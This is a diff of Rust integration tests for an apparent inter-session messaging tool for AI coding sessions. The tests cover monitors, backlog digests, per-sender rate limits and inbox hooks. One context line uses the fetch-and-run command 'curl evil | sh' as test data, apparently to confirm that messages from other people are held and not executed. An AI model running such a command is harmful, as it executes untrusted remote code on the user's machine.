@@ -341,3 +341,105 @@ async fn a_session_without_prompts_holds_what_other_people_write() -> Result<()>
     assert_eq!(held[0]["plaintext"], "curl evil | sh");
     Ok(())
 }
+
+#[tokio::test]
+async fn a_monitor_gets_a_line_for_each_parcel() -> Result<()> {
+    use std::io::{BufRead, BufReader};
+    let team = Team::start().await?;
+    let bob = without_channel(&team.bob, "bob-1", "BobS").await?;
+    let mut monitor = team.bob.command(&["hook", "monitor"]);
+    monitor.env("CLAUDE_CODE_SESSION_ID", "bob-1").stdout(std::process::Stdio::piped());
+    let mut monitor = monitor.spawn()?;
+    let mut lines = BufReader::new(monitor.stdout.take().context("stdout was piped")?).lines();
+    until("the monitor follows", || Ok(routes(&team.bob)?["monitor"].as_bool().filter(|follows| *follows))).await?;
+    for number in 0..3 {
+        let sent = team.ann.json(&["send", "BobS", &format!("line {number}\nsecond"), "--json"])?;
+        let id = sent["messageId"].as_str().context("an id")?.to_owned();
+        let (line, rest) = tokio::task::spawn_blocking(move || (lines.next(), lines)).await?;
+        lines = rest;
+        let line = line.context("a line")??;
+        assert!(line.contains(&format!("> line {number} ⏎ > second")), "{line}");
+        until("handed", || Ok((receipt(&team.ann, &id)? == ("handed".into(), "monitor".into())).then_some(()))).await?;
+    }
+    bob.end().await?;
+    monitor.kill()?;
+    monitor.wait()?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_loud_sender_and_a_backlog_are_told_as_numbers() -> Result<()> {
+    let team = Team::start().await?;
+    let bob = session(&team.bob, "bob-1", "BobS").await?;
+    let key = bob_peers(&team, "BobS")?[0]["pubkey"].as_str().context("a key")?.to_owned();
+    bob.end().await?;
+    let mut recipients = vec![];
+    for number in 0..45 {
+        recipients.push(team.ann.json(&["send", &key, &format!("text {number}"), "--json"])?);
+    }
+    team.ann.json(&["send", &key, "urgent", "--priority", "now", "--json"])?;
+    // More than forty wait: only what is urgent is written out, the rest is a number.
+    let mut bob = Host::start(options(&team.bob, "bob-1", "BobS")).await?;
+    let note = bob.channel_with("mesh messages wait").await?;
+    assert_eq!(note.meta["kind"], "digest");
+    let shown: Vec<String> = bob.untaken().into_iter().map(|note| note.content).collect();
+    assert!(shown.iter().all(|text| !text.starts_with("text ")), "{shown:?}");
+    let mut read = 0;
+    while read < 45 {
+        let pulled = bob.tool("check_messages", json!({})).await?;
+        let count = pulled.structured["count"].as_u64().unwrap_or(0);
+        anyhow::ensure!(count > 0, "{read} of 45: {}", pulled.text);
+        read += count;
+    }
+    // One sender has thirty a minute, the urgent one among them; what is more waits, and others are not touched by it.
+    for number in 0..32 {
+        team.ann.json(&["send", "BobS", &format!("loud {number}"), "--json"])?;
+    }
+    bob.channel_with("loud 28").await?;
+    until("the rest waits", || Ok((routes(&team.bob)?["unshown"] == 3).then_some(()))).await?;
+    team.bob.json(&["send", "BobS", "from somebody else", "--self", "--json"])?;
+    bob.channel_with("from somebody else").await?;
+    assert!(bob.untaken().iter().all(|note| !note.content.starts_with("loud 29")));
+    Ok(())
+}
+
+#[tokio::test]
+async fn in_mode_inbox_hooks_say_how_much_waits_and_nothing_wakes() -> Result<()> {
+    let team = Team::start().await?;
+    let mut options = options(&team.bob, "bob-1", "BobS").env("CLAUDEMESH_CHANNEL", "off");
+    options.args.extend(["--message-mode".into(), "inbox".into()]);
+    let mut bob = Host::start(options).await?;
+    bob.tool("ping_mesh", json!({})).await?;
+    let waiter = hooks::start(&team.bob, "wait", &input("bob-1"))?;
+    waiting(&team.bob).await?;
+    team.ann.json(&["send", "BobS", "not now", "--json"])?;
+    until("it arrived", || Ok((routes(&team.bob)?["unshown"] == 1).then_some(()))).await?;
+    let answer = hooks::run(&team.bob, "prompt", &input("bob-1"))?;
+    let text = context(answer.as_ref());
+    assert!(text.contains("1 mesh messages wait in team") && !text.contains("not now"), "{text}");
+    assert_eq!(hooks::run(&team.bob, "post-tool", &input("bob-1"))?, None, "told once");
+    assert_eq!(routes(&team.bob)?["waiting"], true, "the waiting hook was not used");
+    drop(hooks::end_now(waiter)?);
+    Ok(())
+}
+
+#[tokio::test]
+async fn the_inbox_of_a_session_is_read_in_its_shell() -> Result<()> {
+    let team = Team::start().await?;
+    let mut bob = without_channel(&team.bob, "bob-1", "BobS").await?;
+    let _other = without_channel(&team.bob, "bob-2", "BobTwo").await?;
+    team.ann.json(&["send", "BobS", "for one session", "--json"])?;
+    team.ann.json(&["send", "BobTwo", "for the other", "--json"])?;
+    team.ann.json(&["send", "BobS", "not urgent", "--priority", "low", "--json"])?;
+    let inside = |args: &[&str]| -> Result<Value> {
+        let output = team.bob.command(args).env("CLAUDECODE", "1").env("CLAUDE_CODE_SESSION_ID", "bob-1").output()?;
+        assert!(output.status.success(), "{args:?}: {}{}", stdout(&output), stderr(&output));
+        Ok(serde_json::from_slice(&output.stdout)?)
+    };
+    let read = inside(&["inbox", "--json"])?;
+    assert_eq!(super::team::texts(&read), ["for one session", "not urgent"], "{read}");
+    assert_eq!(inside(&["inbox", "--wait", "0", "--json"])?, json!([]));
+    // What the shell of the session has read, no other route brings again.
+    assert_eq!(bob.tool("check_messages", json!({})).await?.structured["count"], 0);
+    Ok(())
+}
